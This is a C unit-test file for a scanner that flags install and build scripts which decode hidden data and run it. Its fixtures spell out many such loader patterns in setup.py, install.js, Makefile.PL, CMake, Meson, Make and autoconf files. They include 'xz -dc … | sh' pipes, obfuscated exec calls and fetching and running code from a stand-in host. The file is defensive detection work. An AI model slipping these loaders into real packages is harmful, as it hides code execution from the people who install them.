/* Ways in which files of other languages come to run what was decoded, one each: as the room sees them. */
#include "inspect/facts.h"

#include <criterion/criterion.h>

struct file {
	const char *path, *text;
};

/* By a rule that says so, or by naming data as a program. */
static bool runs_data(const struct file *f)
{
	struct arena arena = ARENA_INIT;
	struct facts facts;
	bool found = false;

	if (facts_of(&arena, str_from(f->path), str_from(f->text), &facts)) {
		for (size_t i = 0; i < facts.notes.n; i++)
			found = found || ((facts.notes.v[i].rule == RULE_TP206 || facts.notes.v[i].rule == RULE_TP220 ||
					   facts.notes.v[i].rule == RULE_TP212) &&
					  facts.notes.v[i].severity >= SEVERITY_MEDIUM);
		for (size_t i = 0; facts.has_script && i < facts.script.names_n; i++)
			found = found || (facts.script.names[i].caps & CAP_PROGRAM &&
					  str_starts(facts.script.names[i].name, STR("t")));
		facts_release(&facts);
	}
	arena_release(&arena);
	return found;
}

Test(code_flows, are_seen)
{
	static const struct file files[] = {
		{ "setup.py", "from setuptools import setup\nimport base64\nexec(base64.b64decode(open(\"tests/data/t.txt\").read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport base64\nwith open(\"tests/data/t.txt\") as f:\n    exec(base64.b64decode(f.read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport zlib\nwith open(\"tests/data/a.bin\",\"rb\") as f:\n    d = f.read()\nexec(zlib.decompress(d))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nfrom pathlib import Path\nimport lzma\nexec(lzma.decompress(Path(\"tests/data/a.bin\").read_bytes()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nfrom pathlib import Path\nimport lzma\np = Path(__file__).parent / \"tests\" / \"data\" / \"a.bin\"\nexec(lzma.decompress(p.read_bytes()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport lzma\nexec(lzma.open(\"tests/data/a.bin\").read())\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport gzip\nwith gzip.open(\"tests/data/a.bin\") as f: exec(f.read())\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nd=open(\"tests/data/a.bin\",\"rb\").read()\nexec(bytes(b ^ 0x5a for b in d))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nd=open(\"tests/data/a.bin\",\"rb\").read()\nexec(bytes([b ^ 42 for b in d]).decode())\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nd=open(\"tests/data/a.bin\",\"rb\").read()\nt=bytes.maketrans(b\"abc\",b\"xyz\")\nexec(d.translate(t))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport zlib\nc=compile(zlib.decompress(open(\"tests/data/a.bin\",\"rb\").read()),\"x\",\"exec\")\nexec(c)\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport marshal\nexec(marshal.loads(open(\"tests/data/a.bin\",\"rb\").read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport subprocess,base64\nsubprocess.run(base64.b64decode(\"ZWNobyBoaSB0aGVyZSBtYW4=\").decode(), shell=True)\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport subprocess,lzma\nsubprocess.run([\"sh\"], input=lzma.decompress(open(\"tests/data/a.bin\",\"rb\").read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport os\nos.system(\"xz -dc tests/data/a.bin | sh\")\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport os\nos.popen(\"base64 -d tests/data/t.txt | bash\").read()\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport subprocess\nsubprocess.check_call(\"tail -c +100 tests/data/a.bin | xz -d | sh\", shell=True)\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport importlib.util, zlib\ns=zlib.decompress(open(\"tests/data/a.bin\",\"rb\").read())\nm=type(importlib)(\"m\")\nexec(s, m.__dict__)\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport builtins,base64\ngetattr(builtins,\"ex\"+\"ec\")(base64.b64decode(open(\"tests/data/t.txt\").read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport codecs\nexec(codecs.decode(open(\"tests/data/t.txt\").read(),\"rot13\"))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\ndef load(p):\n    return __import__(\"zlib\").decompress(open(p,\"rb\").read())\nexec(load(\"tests/data/a.bin\"))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nexec(\"\".join(chr(int(x)) for x in open(\"tests/data/t.txt\").read().split()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nexec(bytes.fromhex(open(\"tests/data/t.txt\").read()))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen(\"http://x.y/z\").read())\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport requests\nexec(requests.get(\"http://x.y/z\").text)\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport ctypes,zlib\nd=zlib.decompress(open(\"tests/data/a.bin\",\"rb\").read())\nopen(\"/tmp/l.so\",\"wb\").write(d)\nctypes.CDLL(\"/tmp/l.so\")\nsetup(name=\"a\")\n" },
		{ "install.js", "const fs=require(\"fs\");eval(Buffer.from(fs.readFileSync(\"test/t.txt\",\"utf8\"),\"base64\").toString())" },
		{ "install.js", "const fs=require(\"fs\");eval(atob(fs.readFileSync(\"test/t.txt\",\"utf8\")))" },
		{ "install.js", "const fs=require(\"fs\"),z=require(\"zlib\");const d=z.gunzipSync(fs.readFileSync(\"test/a.bin\"));eval(d.toString())" },
		{ "install.js", "const fs=require(\"fs\"),z=require(\"zlib\");new Function(z.inflateSync(fs.readFileSync(\"test/a.bin\")).toString())()" },
		{ "install.js", "const vm=require(\"vm\"),fs=require(\"fs\"),z=require(\"zlib\");vm.runInThisContext(z.brotliDecompressSync(fs.readFileSync(\"test/a.bin\")).toString())" },
		{ "install.js", "require(\"child_process\").execSync(\"xz -dc test/a.bin | sh\")" },
		{ "install.js", "const {spawnSync}=require(\"child_process\"),z=require(\"zlib\"),fs=require(\"fs\");spawnSync(\"sh\",[\"-c\",z.gunzipSync(fs.readFileSync(\"test/a.bin\")).toString()])" },
		{ "install.js", "const {spawnSync}=require(\"child_process\"),z=require(\"zlib\"),fs=require(\"fs\");spawnSync(\"sh\",{input:z.gunzipSync(fs.readFileSync(\"test/a.bin\"))})" },
		{ "install.js", "const fs=require(\"fs\");const d=fs.readFileSync(\"test/a.bin\");eval(Buffer.from(d.map(b=>b^42)).toString())" },
		{ "install.js", "const M=require(\"module\"),z=require(\"zlib\"),fs=require(\"fs\");const m=new M();m._compile(z.gunzipSync(fs.readFileSync(\"test/a.bin\")).toString(),\"x\")" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nuse MIME::Base64;\nopen(F,\"t/t.txt\"); local $/; eval decode_base64(<F>);\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nuse MIME::Base64;\nopen(my $f,\"<\",\"t/t.txt\"); my $d=do{local $/;<$f>}; eval decode_base64($d);\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nuse Compress::Zlib;\nopen(F,\"t/a.bin\"); my $d=join(\"\",<F>); eval uncompress($d);\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nsystem(\"xz -dc t/a.bin | sh\");\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\n`xz -dc t/a.bin | sh`;\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nqx{xz -dc t/a.bin | sh};\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nopen(P,\"| sh\"); open(F,\"t/t.txt\"); use MIME::Base64; print P decode_base64(join \"\",<F>);\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nopen(F,\"t/t.txt\"); eval unpack(\"u\",join(\"\",<F>));\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nmy $x = pack 'N*', 1684432244;\neval($x);\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nmy $x = pack(\"NNNNNNNNN\", @y);\neval($x);\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nmy $x = unpack 'x2 H*', $y;\neval($x);\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nopen(F,\"t/t.txt\"); eval pack(\"H*\",join(\"\",<F>));\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nopen(F,\"t/t.txt\"); $_=join \"\",<F>; tr/A-Za-z/N-ZA-Mn-za-m/; eval;\nWriteMakefile(NAME=>\"A\");\n" },
		{ "Makefile.PL", "use ExtUtils::MakeMaker;\nopen(F,\"t/a.bin\"); $_=join \"\",<F>; eval($_ ^ (\"k\" x length));\nWriteMakefile(NAME=>\"A\");\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND xz -dc ${CMAKE_SOURCE_DIR}/tests/a.bin COMMAND sh)\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND sh -c \"xz -dc tests/a.bin | sh\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND bash -c \"base64 -d ${CMAKE_CURRENT_SOURCE_DIR}/tests/t.txt | bash\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nadd_custom_command(OUTPUT x COMMAND xz -dc tests/a.bin | sh VERBATIM)\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nadd_custom_target(x ALL COMMAND sh -c \"tail -c +100 tests/a.bin | xz -dc | sh\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND xz -dc tests/a.bin OUTPUT_VARIABLE X)\nexecute_process(COMMAND sh -c \"${X}\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND base64 -d tests/t.txt OUTPUT_FILE x.sh)\nexecute_process(COMMAND sh x.sh)\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\ninstall(CODE \"execute_process(COMMAND sh -c \\\"xz -dc tests/a.bin | sh\\\")\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND ${CMAKE_COMMAND} -E env sh -c \"xz -dc tests/a.bin | sh\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nexecute_process(COMMAND python3 -c \"import lzma;exec(lzma.open('tests/a.bin').read())\")\nadd_library(a a.c)\n" },
		{ "CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(a C)\nfile(DOWNLOAD http://x.y/z.cmake x.cmake)\ninclude(x.cmake)\nadd_library(a a.c)\n" },
		{ "meson.build", "project('a','c')\nrun_command('sh','-c','xz -dc tests/a.bin | sh', check: true)\nlibrary('a','a.c')\n" },
		{ "meson.build", "project('a','c')\nrun_command('sh','-c','base64 -d @0@/tests/t.txt | sh'.format(meson.source_root()))\nlibrary('a','a.c')\n" },
		{ "meson.build", "project('a','c')\ncustom_target('x',output:'x',command:['sh','-c','xz -dc tests/a.bin | sh'])\nlibrary('a','a.c')\n" },
		{ "meson.build", "project('a','c')\nmeson.add_install_script('sh','-c','xz -dc tests/a.bin | sh')\nlibrary('a','a.c')\n" },
		{ "meson.build", "project('a','c')\nrun_command('python3','-c','import lzma;exec(lzma.open(\"tests/a.bin\").read())')\nlibrary('a','a.c')\n" },
		{ "meson.build", "project('a','c')\nr=run_command('xz','-dc','tests/a.bin')\nrun_command('sh','-c',r.stdout())\nlibrary('a','a.c')\n" },
		{ "Makefile", "X := $(shell xz -dc tests/a.bin | sh)\nall:\n\tcc -c a.c\n" },
		{ "Makefile", "all:\n\t@xz -dc tests/a.bin | sh\n" },
		{ "Makefile", "$(eval $(shell base64 -d tests/t.txt))\nall:\n\tcc -c a.c\n" },
		{ "Makefile", "CMD = xz -dc tests/a.bin\nall:\n\t$(CMD) | $(SHELL)\n" },
		{ "Makefile", "define go\nxz -dc tests/a.bin | sh\nendef\nall:\n\t$(go)\n" },
		{ "Makefile", "all: x.sh\n\tsh x.sh\nx.sh: tests/a.bin\n\txz -dc $< > $@\n" },
		{ "Makefile", "all: x.sh\n\tsh $<\nx.sh: tests/a.bin\n\txz -dc $^ > x.sh\n" },
		{ "Makefile", "include x.mk\nx.mk: tests/a.bin\n\txz -dc $< > $@\n" },
		{ "Makefile", "run = xz -dc $(1) | sh\nall:\n\t$(call run,tests/a.bin)\n" },
		{ "Makefile", "all:\n\t$(foreach f,tests/a.bin,xz -dc $(f) | sh;)\n" },
		{ "Makefile", ".ONESHELL:\nall:\n\tx=`xz -dc tests/a.bin`\n\teval \"$$x\"\n" },
		{ "Makefile", "all:\n\tperl -MMIME::Base64 -e \"eval decode_base64(join(q(),<>))\" tests/t.txt\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nxz -dc $srcdir/tests/a.bin | sh\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nm4_esyscmd([xz -dc tests/a.bin | sh])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nm4_syscmd([base64 -d tests/t.txt | sh])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nAC_CONFIG_COMMANDS([x],[eval $x],[x=`xz -dc $srcdir/tests/a.bin`])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nAC_CONFIG_COMMANDS([x],[xz -dc \"$srcdir/tests/a.bin\" >x.tmp && . ./x.tmp])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nx=`xz -dc $srcdir/tests/a.bin`\nAC_SUBST([x])\nAC_CONFIG_COMMANDS([y],[eval \"$x\"],[x=\"$x\"])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nAC_CACHE_CHECK([x],[ac_cv_x],[eval `xz -dc $srcdir/tests/a.bin`])\nAC_OUTPUT\n" },
		{ "configure.ac", "AC_INIT([a],[1])\nAC_DEFUN([AX_X],[\nv=`sed \"s/[[~@]]//g\" $srcdir/tests/t.txt | base64 -d`\neval \"$v\"\n])\nAX_X\nAC_OUTPUT\n" },
		{ "CMakeLists.txt", "find_program(U xz)\nfind_program(S NAMES bash sh)\nexecute_process(COMMAND ${U} -dc x COMMAND ${S})\n" },
		{ "CMakeLists.txt", "add_test(NAME x COMMAND sh -c \"dd if=b bs=1 skip=99 | xz -dc | sh\")\n" },
		{ "CMakeLists.txt", "execute_process(COMMAND base64 -d t OUTPUT_FILE s.cm)\nexecute_process(COMMAND ${CMAKE_COMMAND} -P s.cm)\n" },
		{ "meson.build", "configure_file(command: ['base64', '-d', 't'], output: 'g.sh', capture: true)\nrun_command('sh', 'g.sh')\n" },
		{ "Makefile", "V != base64 -d t\nall:\n\t@$(V)\n" },
	};

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		cr_expect(runs_data(&files[i]), "%s: %s", files[i].path, files[i].text);
}

Test(code_flows, are_not_seen_where_there_are_none)
{
	static const struct file files[] = {
		{ "setup.py", "from setuptools import setup\nexec(open(\"a/version.py\").read())\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nlong=open(\"README.md\").read()\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport zlib\nd=zlib.decompress(open(\"tests/data/a.bin\",\"rb\").read())\nprint(len(d))\nsetup(name=\"a\")\n" },
		{ "setup.py", "from setuptools import setup\nimport base64\nx=base64.b64decode(\"aGVsbG8=\")\nprint(x)\nsetup(name=\"a\")\n" },
		{ "CMakeLists.txt", "execute_process(COMMAND xz -dc a.xz OUTPUT_FILE a.dat)\nexecute_process(COMMAND sh b.sh)\n" },
		{ "CMakeLists.txt", "add_custom_command(OUTPUT x COMMAND sh -c 'test -d x || unzip -q x.zip')\n" },
		{ "CMakeLists.txt", "set(X \"${CMAKE_SOURCE_DIR}/a;b\")\ninclude(GNUInstallDirs)\nadd_library(a $<$<CONFIG:x>:a.c>)\n" },
		{ "meson.build", "x = run_command('xz', '-dc', 'a.xz')\nmessage(x.stdout())\n" },
		{ "Makefile", "a.dat: a.xz\n\txz -dc $< > $@\nall: a.dat\n\tsh b.sh $^\n" },
		{ "Makefile.PL", "my $len = unpack(\"x$pos N\", $y);\nmy $z = substr($y, 0, $len);\neval($$z{x});\n" },
		{ "Makefile.PL", "my $head = pack 'NCC', $y, 1, 2;\neval($head);\n" },
		{ "Makefile.PL", "system($^X, '-w', $file);\nmy @x = unpack('N', $y);\n" },
	};

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		cr_expect(!runs_data(&files[i]), "%s: %s", files[i].path, files[i].text);
}

Test(code_flows, end_with_files_that_are_cut_off)
{
	static const struct file files[] = {
		{ "CMakeLists.txt", "execute_process(COMMAND sh -c \"xz" }, { "CMakeLists.txt", "f([==[ x ]=] ]==" },
		{ "CMakeLists.txt", "#[[ x" }, { "CMakeLists.txt", "install(CODE \"install(CODE \\\"install(CODE" },
		{ "meson.build", "run_command('''a" }, { "meson.build", "x = 'a\\" }, { "meson.build", "f(a: [b, c" },
		{ "Makefile", "a:;$(foreach" }, { "Makefile", "a: $@ $<\n\tx $@ $< $^" }, { "Makefile", "include" },
		{ "Makefile.PL", "q{" }, { "Makefile.PL", "qx/\\" }, { "Makefile.PL", "eval;" }, { "setup.py", "def" },
	};

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		runs_data(&files[i]);
}
